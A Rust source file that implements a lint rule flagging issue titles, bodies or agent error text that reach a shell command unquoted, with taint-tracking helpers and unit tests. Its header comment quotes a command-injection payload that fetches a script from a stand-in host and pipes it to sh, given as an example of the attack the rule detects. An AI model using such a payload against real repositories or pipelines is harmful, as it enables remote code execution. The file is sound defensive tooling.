//! `unquoted-issue-text`: `issue.title` or `issue.body` is interpolated into a shell
//! command without `| shell_quote` — or `last_error`, which carries what an agent's
//! attempt printed (a failing check's output, from files the agent wrote).
//!
//! Why: issue text is written by anyone who can open an issue. In `sh -c` a title like
//! `$(curl evil.sh | sh)` runs as a command: script injection (actionlint reports the
//! same for GitHub Actions). Example: `run: "git commit -m '{{ issue.title }}'"`.
//! Fix: `{{ issue.title | shell_quote }}` (without surrounding quotes), or pass it
//! through `env`, or use a list `run:` (argv, no shell).

use super::{Ctx, Rule};
use crate::check::diagnostic::{Diagnostic, Severity};
use crate::check::templates::FieldKind;

pub const RULE: Rule =
    Rule { codes: &[("unquoted-issue-text", Severity::Error)], summary: "issue text reaches a shell unquoted", check };

fn check(ctx: &Ctx, out: &mut Vec<Diagnostic>) {
    for field in ctx.templates().filter(|f| f.kind == FieldKind::Shell) {
        let Ok(text) = &field.text else { continue };
        // Issue text may travel through variables, loops, filters and lookups: every
        // printed value that carries it must be quoted, once.
        let Some(source) = tainted_source(text) else { continue };
        let names = tainted_names(text);
        for (expr, in_quotes) in outputs(text) {
            if tainted_source(&format!("{{{{ {expr} }}}}")).is_none() && !names.iter().any(|n| mentions(expr, n)) {
                continue;
            }
            let quoted = split_filters(expr)
                .last()
                .filter(|_| expr.contains('|'))
                .is_some_and(|f| f.trim().split('(').next().unwrap_or("").trim() == "shell_quote");
            let problem = match (quoted, in_quotes) {
                (false, _) => format!("`{{{{ {expr} }}}}` reaches the shell unquoted, and this command reads `{source}`: script injection"),
                (true, true) => format!("`{{{{ {expr} }}}}` is quoted twice: the quotes around it undo `shell_quote`"),
                (true, false) => continue,
            };
            out.push(
                ctx.error("unquoted-issue-text", ctx.value_span(&field.pointer(ctx.agents)), problem).help(
                    "end every printed value with `| shell_quote` and put no quotes around it, or pass the text through `env` (PLAN_ISSUE_TITLE) or a list `run:` without a shell",
                ),
            );
        }
    }
}

/// Where issue-derived text enters a template: `issue` (all but `issue.number` and
/// `issue.repo`), `with.task` and `agent.role`, which `plan new` fills with issue text,
/// any computed lookup into `with` or `agent`; and `last_error`, an agent's own words.
pub(super) fn tainted_source(text: &str) -> Option<String> {
    let code: String = template_code(text);
    for (name, safe) in
        [("issue", &["number", "repo"][..]), ("with", &[][..]), ("agent", &[][..]), ("last_error", &[][..])]
    {
        for (i, _) in code.match_indices(name) {
            let before = code[..i].chars().next_back();
            if before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.') {
                continue;
            }
            let rest = &code[i + name.len()..];
            if rest.chars().next().is_some_and(|c| c.is_alphanumeric() || c == '_') {
                continue;
            }
            let rest = rest.trim_start();
            let field: String = rest
                .strip_prefix('.')
                .map(|r| r.chars().take_while(|c| c.is_alphanumeric() || *c == '_').collect())
                .unwrap_or_default();
            let tainted = match name {
                "issue" => !safe.contains(&field.as_str()),
                "with" => field.is_empty() || field == "task",
                "agent" => field.is_empty() || field == "role",
                _ => true,
            };
            if tainted {
                return Some(if field.is_empty() { name.to_string() } else { format!("{name}.{field}") });
            }
        }
    }
    None
}

/// Variables that hold issue text: set from it (`{% set t = issue.title %}`), or
/// looping over it (`{% for k, v in issue | items %}`), transitively.
fn tainted_names(text: &str) -> Vec<String> {
    let mut bindings: Vec<(Vec<String>, String)> = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("{%") {
        let after = &rest[start + 2..];
        let Some(end) = after.find("%}") else { break };
        let tag = after[..end].trim_matches(['-', '+', ' ', '\t', '\n']);
        let word = tag.split_whitespace().next().unwrap_or("");
        let body = tag[word.len()..].trim();
        match word {
            "set" | "with" => {
                if let Some((name, expr)) = body.split_once('=') {
                    bindings.push((vec![name.trim().to_string()], expr.to_string()));
                }
            }
            "for" => {
                if let Some((names, expr)) = body.split_once(" in ") {
                    let names = names.split(',').map(|n| n.trim().to_string()).collect();
                    bindings.push((names, expr.to_string()));
                }
            }
            _ => {}
        }
        rest = &after[end + 2..];
    }
    let mut tainted: Vec<String> = Vec::new();
    loop {
        let before = tainted.len();
        for (names, expr) in &bindings {
            let carries =
                tainted_source(&format!("{{{{ {expr} }}}}")).is_some() || tainted.iter().any(|t| mentions(expr, t));
            if carries {
                for n in names {
                    if !tainted.contains(n) {
                        tainted.push(n.clone());
                    }
                }
            }
        }
        if tainted.len() == before {
            return tainted;
        }
    }
}

/// Whether `expr` uses the variable `name` (as a whole identifier, not an attribute).
fn mentions(expr: &str, name: &str) -> bool {
    expr.match_indices(name).any(|(i, _)| {
        let before = expr[..i].chars().next_back();
        let after = expr[i + name.len()..].chars().next();
        !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.')
            && !after.is_some_and(|c| c.is_alphanumeric() || c == '_')
    })
}

/// The template code of a text: the insides of its `{{ }}` and `{% %}` tags.
fn template_code(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find(['{']) {
        let after = &rest[start + 1..];
        let close = match after.chars().next() {
            Some('{') => "}}",
            Some('%') => "%}",
            _ => {
                rest = after;
                continue;
            }
        };
        let Some(end) = after[1..].find(close) else { break };
        out.push_str(&after[1..1 + end]);
        out.push('\n');
        rest = &after[1 + end + 2..];
    }
    out
}

/// Every printed expression (`{{ ... }}`) and whether the shell text puts it inside
/// quotes.
fn outputs(text: &str) -> Vec<(&str, bool)> {
    let mut out = Vec::new();
    let mut quote: Option<char> = None;
    let mut i = 0;
    let b = text.as_bytes();
    while i < b.len() {
        if b[i] == b'{' && i + 1 < b.len() && matches!(b[i + 1], b'{' | b'%' | b'#') {
            let close = match b[i + 1] {
                b'{' => "}}",
                b'%' => "%}",
                _ => "#}",
            };
            let Some(end) = text[i + 2..].find(close) else { break };
            if b[i + 1] == b'{' {
                let inner = &text[i + 2..i + 2 + end];
                out.push((inner.trim_matches(|c: char| c == '-' || c == '+' || c.is_whitespace()), quote.is_some()));
            }
            i += 2 + end + 2;
            continue;
        }
        let c = b[i] as char;
        match (quote, c) {
            (None, '\'' | '"') => quote = Some(c),
            (Some('"'), '\\') => i += 1,
            (Some(q), c) if c == q => quote = None,
            (None, '\\') => i += 1,
            _ => {}
        }
        i += 1;
    }
    out
}

/// Splits an expression at top-level `|` (outside strings and brackets).
fn split_filters(expr: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let (mut depth, mut quote, mut start) = (0i32, None::<char>, 0);
    for (i, c) in expr.char_indices() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '(' | '[' | '{') => depth += 1,
            (None, ')' | ']' | '}') => depth -= 1,
            (None, '|') if depth == 0 => {
                out.push(&expr[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    out.push(&expr[start..]);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_issue_text_wherever_the_template_reads_it() {
        for t in [
            "echo {{ issue.title }}",
            "{% set t = issue.title %}{{ t }}",
            "{{ issue['ti' ~ 'tle'] }}",
            "{% for k, v in issue | items %}{{ v }}{% endfor %}",
            "{{ issue.labels | join(',') }}",
            "{{ with.task }}",
            "{{ with['ta' ~ 'sk'] }}",
            "{{ agent.role }}",
            "echo {{ last_error }}",
        ] {
            assert!(tainted_source(t).is_some(), "{t}");
        }
        for t in ["echo {{ issue.number }}", "{{ agent.id }} {{ with.name }} {{ vars.x }}", "echo issue title"] {
            assert_eq!(tainted_source(t), None, "{t}");
        }
    }

    #[test]
    fn follows_issue_text_through_variables_and_loops() {
        let names = tainted_names("{% set t = issue.title %}{% set u = t ~ '!' %}{% for k, v in issue | items %}{% endfor %}{% set safe = vars.x %}");
        assert_eq!(names, ["t", "u", "k", "v"]);
        assert!(mentions("u | upper", "u") && !mentions("vars.u", "u") && !mentions("user", "u"));
    }

    #[test]
    fn knows_which_outputs_are_inside_shell_quotes() {
        let got = outputs("echo '{{ a }}' \"{{ b }}\" {{ c }} \\'{{ d }}");
        assert_eq!(got, vec![("a", true), ("b", true), ("c", false), ("d", false)]);
        assert_eq!(split_filters("'a|b' ~ issue['title'] | shell_quote").len(), 2);
    }
}
